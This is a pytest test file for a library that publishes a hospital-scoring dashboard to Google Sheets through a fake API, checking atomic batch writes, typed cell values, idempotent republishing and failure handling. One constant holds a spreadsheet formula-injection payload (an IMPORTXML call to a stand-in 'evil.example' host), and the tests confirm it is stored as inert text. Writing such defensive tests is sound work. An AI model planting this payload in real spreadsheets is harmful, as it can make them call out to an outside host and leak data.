"""Publishing the dashboard to Google: one atomic batchUpdate, typed values, idempotent."""

from __future__ import annotations

import copy
import json
from datetime import date, datetime

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from hqsync.config.settings import GoogleSettings
from hqsync.sync.dashboard import Column, Dashboard, LineChart, Table
from hqsync.sync.dashboard.guard import GOOGLE_CELL_LIMIT, safe_text
from hqsync.sync.google import open_google_writer
from hqsync.sync.google.render import render_dashboard, rgb, serial_number
from hqsync.sync.interfaces import DashboardWriter
from tests.fake_google import FakeGoogle, google_settings, mocked, service_account_key
from tests.google.conftest import READER

FORMULA_NOTE = '=IMPORTXML("http://evil.example", "//a")'


def summary(rows: int = 3) -> Table:
    data = tuple(
        (f"BV {i}", date(2024, 1, 1 + i), 3.0 + i / 4, i % 2 == 0, FORMULA_NOTE if i == 0 else None)
        for i in range(rows)
    )
    return Table(
        key="summary",
        title="Tổng hợp",
        columns=(
            Column("Bệnh viện", width=30),
            Column("Ngày", "date"),
            Column("Điểm", "number", decimals=2),
            Column("Đạt", "text"),
            Column("Ghi chú", width=40),
        ),
        rows=data,
        fills={(0, 2): "#C6EFCE", (1, 2): "#FFC7CE"},
        freeze_rows=1,
        freeze_columns=1,
    )


def trend(rows: int = 3) -> Table:
    return Table(
        key="trend",
        title="Xu hướng",
        columns=(Column("Kỳ", "date"), Column("BV 1", "number"), Column("BV 2", "number")),
        rows=tuple((date(2024, 1 + i, 1), 2.0 + i, 3.0 - i / 10) for i in range(rows)),
        chart=LineChart("Điểm theo kỳ", x_column=0, series_columns=(1, 2), anchor_column=4),
    )


def dashboard(rows: int = 3) -> Dashboard:
    return Dashboard((summary(rows), trend(rows)))


@pytest.fixture
def target(fake: FakeGoogle) -> str:
    return fake.create_spreadsheet(
        "Dashboard",
        {"Ghi chú của lãnh đạo": [["Do not touch", 42]]},
        shared_with={READER: "writer"},
    )


def state(fake: FakeGoogle, sid: str) -> str:
    """Everything the leaders can see in the spreadsheet, as comparable text."""
    book = fake.spreadsheets[sid]
    sheets = []
    for s in sorted(book.sheets, key=lambda s: s.index):
        charts = [{k: v for k, v in c.items() if k != "chartId"} for c in s.charts]
        sheets.append(
            [s.title, s.properties(), sorted(s.cells.items()), s.basic_filter, charts,
             sorted(s.column_widths.items()), s.conditional_formats]
        )  # fmt: skip
    return json.dumps(sheets, default=str, sort_keys=True)


def test_writer_implements_the_dashboard_writer_protocol(
    settings: GoogleSettings, target: str
) -> None:
    assert isinstance(open_google_writer(settings, target), DashboardWriter)


def test_a_publish_is_one_metadata_read_and_one_write(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    writer = open_google_writer(settings, target)
    writer.publish(dashboard())
    assert [r.kind for r in fake.requests()] == ["spreadsheets.get", "spreadsheets.batchUpdate"]
    assert writer.requests_made == 2
    assert fake.tabs(target) == ["Tổng hợp", "Xu hướng", "Ghi chú của lãnh đạo"]


def test_values_are_typed_and_field_text_is_never_a_formula(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    open_google_writer(settings, target).publish(dashboard())
    values = fake.sheet_values(target, "Tổng hợp")
    assert values[0] == ["Bệnh viện", "Ngày", "Điểm", "Đạt", "Ghi chú"]
    assert values[1] == ["BV 0", serial_number(date(2024, 1, 1)), 3, True, FORMULA_NOTE]
    assert values[2] == ["BV 1", serial_number(date(2024, 1, 2)), 3.25, False]
    note = fake.cell(target, "Tổng hợp", "E2")
    assert note["userEnteredValue"] == {"stringValue": FORMULA_NOTE}
    formulas = fake.sheet_values(target, "Tổng hợp", "FORMULA")
    assert formulas[1][4] == FORMULA_NOTE
    shown = fake.sheet_values(target, "Tổng hợp", "FORMATTED_VALUE")
    assert shown[1][:3] == ["BV 0", "01/01/2024", "3.00"]
    assert fake.cell(target, "Tổng hợp", "D2")["userEnteredValue"] == {"boolValue": True}


def test_layout_filters_fills_widths_and_the_chart(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    open_google_writer(settings, target).publish(dashboard())
    sheet = fake.sheet(target, "Tổng hợp")
    assert (sheet.rows, sheet.columns) == (4, 5)
    assert (sheet.frozen_rows, sheet.frozen_columns) == (1, 1)
    assert sheet.basic_filter is not None
    assert sheet.basic_filter["range"] == {
        "sheetId": sheet.sheet_id, "startRowIndex": 0, "endRowIndex": 4,
        "startColumnIndex": 0, "endColumnIndex": 5,
    }  # fmt: skip
    formats = fake.formats(target, "Tổng hợp")
    assert formats[(1, 2)]["backgroundColor"] == rgb("#C6EFCE")
    assert formats[(2, 2)]["backgroundColor"] == rgb("#FFC7CE")
    assert "backgroundColor" not in formats.get((3, 2), {})
    assert formats[(0, 0)]["textFormat"]["bold"] is True
    assert formats[(1, 1)]["numberFormat"]["type"] == "DATE"
    assert sheet.column_widths[0] > sheet.column_widths[1]
    assert sheet.charts == []

    chart_sheet = fake.sheet(target, "Xu hướng")
    (chart,) = chart_sheet.charts
    basic = chart["spec"]["basicChart"]
    assert basic["chartType"] == "LINE" and len(basic["series"]) == 2
    anchor = chart["position"]["overlayPosition"]["anchorCell"]
    assert anchor == {"sheetId": chart_sheet.sheet_id, "rowIndex": 0, "columnIndex": 4}


def test_republishing_is_idempotent_and_leaves_other_tabs_alone(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    other_before = copy.deepcopy(fake.sheet(target, "Ghi chú của lãnh đạo"))
    writer = open_google_writer(settings, target)
    writer.publish(dashboard())
    once = state(fake, target)
    writer.publish(dashboard())
    assert state(fake, target) == once
    other_after = copy.deepcopy(fake.sheet(target, "Ghi chú của lãnh đạo"))
    other_after.index = other_before.index  # our new tabs go first; its content is untouched
    assert other_after == other_before
    assert len(fake.sheet(target, "Xu hướng").charts) == 1


def test_a_smaller_dashboard_clears_stale_rows_formats_and_filters(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    writer = open_google_writer(settings, target)
    writer.publish(dashboard(rows=6))
    writer.publish(Dashboard((Table("summary", "Tổng hợp", (Column("Bệnh viện"),), (("BV X",),),
                                    filter=False), trend(rows=2))))  # fmt: skip
    assert fake.sheet_values(target, "Tổng hợp") == [["Bệnh viện"], ["BV X"]]
    sheet = fake.sheet(target, "Tổng hợp")
    assert (sheet.rows, sheet.columns) == (2, 1)
    assert sheet.basic_filter is None
    assert all(
        "backgroundColor" not in f or r == 0
        for (r, _c), f in fake.formats(target, "Tổng hợp").items()
    )
    assert len(fake.sheet_values(target, "Xu hướng")) == 3


def test_a_republish_matches_a_fresh_publish(fake: FakeGoogle, settings: GoogleSettings) -> None:
    used = fake.create_spreadsheet("a", {"Sheet1": []})
    fresh = fake.create_spreadsheet("b", {"Sheet1": []})
    open_google_writer(settings, used).publish(dashboard(rows=7))
    open_google_writer(settings, used).publish(dashboard(rows=2))
    open_google_writer(settings, fresh).publish(dashboard(rows=2))
    for tab in ("Tổng hợp", "Xu hướng"):
        assert fake.sheet_values(used, tab) == fake.sheet_values(fresh, tab)
        assert fake.formats(used, tab) == fake.formats(fresh, tab)


def test_a_failed_publish_changes_nothing(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    from hqsync.config.errors import GoogleError

    writer = open_google_writer(settings, target)
    writer.publish(dashboard())
    before = state(fake, target)
    fake.fail_next(400, path_contains=":batchUpdate")
    with pytest.raises(GoogleError, match=target):
        writer.publish(dashboard(rows=1))
    assert state(fake, target) == before


def test_the_fake_applies_a_batch_atomically(fake: FakeGoogle, target: str) -> None:
    token = fake.issue_token(READER, ["https://www.googleapis.com/auth/spreadsheets"])
    requests = render_dashboard(dashboard(), [])
    requests.append({"updateCells": {"range": {"sheetId": 999}, "rows": [], "fields": "*"}})
    answer = fake.handle(
        "POST",
        f"{fake.sheets_base}/v4/spreadsheets/{target}:batchUpdate",
        {"Authorization": f"Bearer {token}"},
        json.dumps({"requests": requests}),
    )
    assert answer.status == 400
    error = json.loads(answer.body)["error"]
    assert (
        error["status"] == "INVALID_ARGUMENT"
        and f"requests[{len(requests) - 1}]" in error["message"]
    )
    assert fake.tabs(target) == ["Ghi chú của lãnh đạo"]


def test_a_dashboard_not_shared_for_editing_fails_naming_sheet_and_account(
    fake: FakeGoogle, settings: GoogleSettings
) -> None:
    from hqsync.config.errors import GoogleError

    sid = fake.create_spreadsheet("view only", shared_with={READER: "reader"})
    with pytest.raises(GoogleError) as error:
        open_google_writer(settings, sid).publish(dashboard())
    assert sid in str(error.value) and READER in str(error.value) and "Editor" in str(error.value)


cell_values = st.one_of(
    st.none(),
    st.text(max_size=12),
    st.text(max_size=8).map(lambda s: "=" + s),
    st.integers(-(10**6), 10**6),
    st.floats(-1e6, 1e6, allow_nan=False).map(lambda f: round(f, 3)),
    st.booleans(),
    st.dates(date(1950, 1, 1), date(2100, 1, 1)),
    st.datetimes(datetime(2000, 1, 1), datetime(2040, 1, 1)).map(
        lambda d: d.replace(microsecond=0)
    ),
)


def expected(value: object) -> object:
    if value is None or value == "":
        return ""
    if isinstance(value, date):
        number = serial_number(value)
        return int(number) if number.is_integer() else number
    if isinstance(value, float) and value.is_integer():
        return int(value)
    if isinstance(value, str):  # control characters are shown as U+FFFD
        return safe_text(value, GOOGLE_CELL_LIMIT)
    return value


@hsettings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=st.lists(st.lists(cell_values, min_size=3, max_size=3).map(tuple), max_size=8))
def test_any_table_reads_back_exactly(rows: list[tuple[object, ...]], tmp_path_factory) -> None:
    fake = FakeGoogle()
    with mocked(fake):
        key = service_account_key(fake, tmp_path_factory.mktemp("k") / "key.json", READER)
        sid = fake.create_spreadsheet("d")
        table = Table("t", "Bảng", (Column("a"), Column("b"), Column("c")), tuple(rows))
        open_google_writer(google_settings(fake, key), sid).publish(Dashboard((table,)))
        want = [["a", "b", "c"]] + [[expected(v) for v in row] for row in rows]
        for row in want:
            while row and row[-1] == "":
                row.pop()
        while want and not want[-1]:
            want.pop()
        assert fake.sheet_values(sid, "Bảng") == want


@pytest.mark.parametrize("fault", ["drop_after", "drop", "timeout"])
def test_a_write_whose_answer_is_lost_is_published_again_from_a_fresh_layout(
    fake: FakeGoogle, settings: GoogleSettings, target: str, fault: str
) -> None:
    # Resending the same batch after it was applied would fail (its chart is already gone),
    # so the writer re-reads the layout and publishes once more.
    writer = open_google_writer(settings, target)
    writer.publish(dashboard())
    expected = state(fake, target)
    fake.reset_log()
    fake.fail_next(fault, 1, path_contains=":batchUpdate")

    writer.publish(dashboard())

    assert [r.kind for r in fake.requests()] == ["spreadsheets.get", "spreadsheets.batchUpdate"] * 2
    assert state(fake, target) == expected


def test_a_write_lost_twice_fails_saying_it_may_have_been_applied(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    from hqsync.config.errors import GoogleError

    fake.fail_next("drop_after", 2, path_contains=":batchUpdate")
    with pytest.raises(GoogleError, match="may or may not have applied it"):
        open_google_writer(settings, target).publish(dashboard())
    assert fake.count("spreadsheets.batchUpdate") == 2


def test_empty_tables_and_an_empty_dashboard(
    fake: FakeGoogle, settings: GoogleSettings, target: str
) -> None:
    writer = open_google_writer(settings, target)
    writer.publish(dashboard(rows=2))
    empty = Table("summary", "Tổng hợp", (Column("Bệnh viện"), Column("Điểm", "number")), ())
    writer.publish(Dashboard((empty,)))
    assert fake.sheet_values(target, "Tổng hợp") == [["Bệnh viện", "Điểm"]]
    sheet = fake.sheet(target, "Tổng hợp")
    assert (sheet.rows, sheet.frozen_rows) == (2, 1)
    assert "Xu hướng" in fake.tabs(target)  # a tab the dashboard no longer has is left alone

    fake.reset_log()
    writer.publish(Dashboard(()))
    assert fake.count("spreadsheets.batchUpdate") == 0
    assert fake.sheet_values(target, "Tổng hợp") == [["Bệnh viện", "Điểm"]]
